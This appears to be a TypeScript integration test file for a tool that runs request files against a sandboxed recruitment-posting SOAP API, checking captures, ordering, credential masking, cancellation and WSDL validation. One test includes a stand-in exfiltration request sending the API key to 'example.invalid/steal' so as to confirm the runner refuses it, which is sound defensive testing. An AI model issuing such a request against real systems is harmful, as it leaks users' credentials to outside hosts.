import * as assert from 'node:assert/strict';
import { entriesToRun, runRequestEntries, type RunOptions } from '../../src/client/requestFileRunner';
import { wsdlSchemaValidator } from '../../src/client/requestFileSchema';
import { loadLibxml2Validator } from '../../src/client/xsd/libxml2Validator';
import type { RunningEmulator } from '../../src/emulator';
import { DEFAULT_ENDPOINT_PATHS } from '../../src/protocol/catalogue';
import { parseRequestFileEntries } from '../../src/protocol/requestFile';
import { SANDBOX_START_TIMEOUT_MS, startSandbox } from './support';

const FILE = `# Multiposting request

### Find an application
operation: GetApplicationsPaged
param.sCultureID: en-GB
param.sAPIKey: {{connection.apiKey}}
param.sApplicationStartDateTime: 2000-01-01 00:00:00
param.CurrentPage: 1
param.RowsPerPage: {{rows}}
expect: no fault
capture: applicationId = result.Applications[0].AdvertCandidateID

### Rows per page
operation: GetCurrency
param.sCultureID: en-GB
param.sAPIKey: {{connection.apiKey}}
expect: no fault
capture: rows = result.length

### Unrelated
operation: GetWeeksToAdvertise
binding: httpGet
param.sCultureID: en-GB
param.sAPIKey: {{connection.apiKey}}
expect: no fault

### Read it back
operation: GetApplicationsPaged
binding: soap12
param.sCultureID: en-GB
param.sAPIKey: {{connection.apiKey}}
param.AdvertCandidateIDAsCSV: {{applicationId}}
param.CurrentPage: 1
param.RowsPerPage: 5
expect: result.Applications[0].AdvertCandidateID == {{applicationId}}
expect: result.TotalItemCount == 2
expect: valid against wsdl
`;

describe('running request files against a sandbox', function () {
	this.timeout(SANDBOX_START_TIMEOUT_MS);
	let emulator: RunningEmulator;
	let options: RunOptions;

	before(async () => {
		emulator = await startSandbox({ size: 'small' });
		options = {
			target: { baseUrl: emulator.baseUrl, namespace: emulator.namespace, paths: DEFAULT_ENDPOINT_PATHS },
			connection: {
				apiKey: emulator.demo.apiKey,
				username: emulator.demo.username,
				password: emulator.demo.password,
				culture: 'en-GB',
			},
		};
	});
	after(() => emulator.stop());

	it('runs the requests in order, passing captures on, and reports each expectation', async () => {
		const { entries } = parseRequestFileEntries(FILE);
		const schemaBodies: string[] = [];
		const results = await runRequestEntries(entries, {
			...options,
			validateSchema: async ({ body, operation, binding }) => {
				schemaBodies.push(`${operation}/${binding}`);
				return body.includes('ApplicationPaged') ? { valid: true } : { valid: false, errors: ['no page'] };
			},
		});
		// The first request needs {{rows}}, which only a later request captures: an error of the file.
		assert.deepEqual(
			results.map((result) => [result.label, result.status]),
			[
				['Find an application', 'errored'],
				['Rows per page', 'passed'],
				['Unrelated', 'passed'],
				['Read it back', 'skipped'],
			],
		);
		assert.deepEqual(results[0].problems, [
			'line 9: {{rows}} is captured only by a later request (line 18): move that request before this one.',
		]);
		assert.deepEqual(results[3].problems, [
			'{{applicationId}} has no value: "Find an application" did not capture it.',
		]);
		assert.deepEqual(schemaBodies, []);
		assert.ok(Number(results[1].captured.rows) >= 1);
	});

	it('runs a selected request with the requests it needs, and fails with expected and actual values', async () => {
		const text = FILE.replace('param.RowsPerPage: {{rows}}', 'param.RowsPerPage: 3');
		const { entries } = parseRequestFileEntries(text);
		assert.deepEqual(entriesToRun(entries, [3]), [0, 3]);
		const results = await runRequestEntries(
			entries,
			{ ...options, validateSchema: async () => ({ valid: true }) },
			[3],
		);
		assert.deepEqual(
			results.map((result) => [result.label, result.status, result.setup]),
			[
				['Find an application', 'passed', true],
				['Read it back', 'failed', false],
			],
		);
		const id = results[0].captured.applicationId;
		assert.match(id, /^\d+$/);
		assert.deepEqual(
			results[1].outcomes.map((outcome) => [outcome.text, outcome.passed, outcome.expected, outcome.actual]),
			[
				[
					'result.Applications[0].AdvertCandidateID == {{applicationId}}',
					true,
					`== {{applicationId}} (with {{applicationId}} = ${id})`,
					id,
				],
				['result.TotalItemCount == 2', false, '== 2', '1'],
				['valid against wsdl', true, 'valid against the WSDL', 'valid'],
			],
		);
		const exchange = results[1].exchange!;
		assert.match(exchange.request.body, new RegExp(`<AdvertCandidateIDAsCSV>${id}</AdvertCandidateIDAsCSV>`));
		assert.equal(exchange.response?.status, 200);
	});

	it('never returns a credential, even when a response echoes it', async () => {
		const text = `### Echo
operation: CandidateTag
param.sAPIKey: {{connection.apiKey}}
param.sCandidateEmail: {{connection.apiKey}}@example.com
param.Tag: {{connection.password}}
expect: result.Tag == nothing
capture: tag = result.Tag
`;
		const { entries } = parseRequestFileEntries(text);
		const results = await runRequestEntries(entries, options);
		const json = JSON.stringify(results);
		assert.ok(!json.includes(emulator.demo.apiKey), json);
		assert.ok(!json.includes(emulator.demo.password), json);
		assert.ok(json.includes('***'));
	});

	it('refuses a raw target on another host and stops when cancelled', async () => {
		const text = `### Elsewhere
---
GET http://example.invalid/steal?key={{connection.apiKey}} HTTP/1.1

### Here
---
GET ${DEFAULT_ENDPOINT_PATHS.posting}?WSDL HTTP/1.1
`;
		const { entries } = parseRequestFileEntries(text);
		const results = await runRequestEntries(entries, options);
		assert.equal(results[0].status, 'errored');
		assert.match(results[0].problems[0], /not the connection's host/);
		assert.equal(results[0].exchange, undefined);
		assert.equal(results[1].status, 'passed');
		assert.match(results[1].exchange!.response!.body, /wsdl:definitions/);

		const controller = new AbortController();
		controller.abort();
		const cancelled = await runRequestEntries(entries, { ...options, signal: controller.signal });
		assert.deepEqual(
			cancelled.map((result) => [result.status, result.problems]),
			[
				['skipped', ['Cancelled.']],
				['skipped', ['Cancelled.']],
			],
		);
	});

	it('checks "valid against wsdl" with libxml2 against the endpoint\'s own WSDL', async () => {
		const text = `### Valid
operation: GetWeeksToAdvertise
binding: soap12
param.sCultureID: en-GB
param.sAPIKey: {{connection.apiKey}}
expect: valid against wsdl

### A fault is not what the WSDL describes
operation: GetCurrency
binding: httpGet
param.sCultureID: en-GB
param.sAPIKey: wrong
expect: valid against wsdl
`;
		const { entries } = parseRequestFileEntries(text);
		const results = await runRequestEntries(entries, {
			...options,
			validateSchema: wsdlSchemaValidator(options.target, loadLibxml2Validator),
		});
		assert.deepEqual(
			results.map((result) => [result.status, result.outcomes[0].actual.slice(0, 30)]),
			[
				['passed', 'valid'],
				['failed', results[1].outcomes[0].actual.slice(0, 30)],
			],
		);
		assert.notEqual(results[1].outcomes[0].actual, 'valid');
		const unavailable = await runRequestEntries(entries.slice(0, 1), {
			...options,
			validateSchema: wsdlSchemaValidator(options.target, () => Promise.reject(new Error('no wasm here'))),
		});
		assert.equal(
			unavailable[0].outcomes[0].actual,
			'not checked: no XSD validator could be loaded (no wasm here).',
		);
	});
});
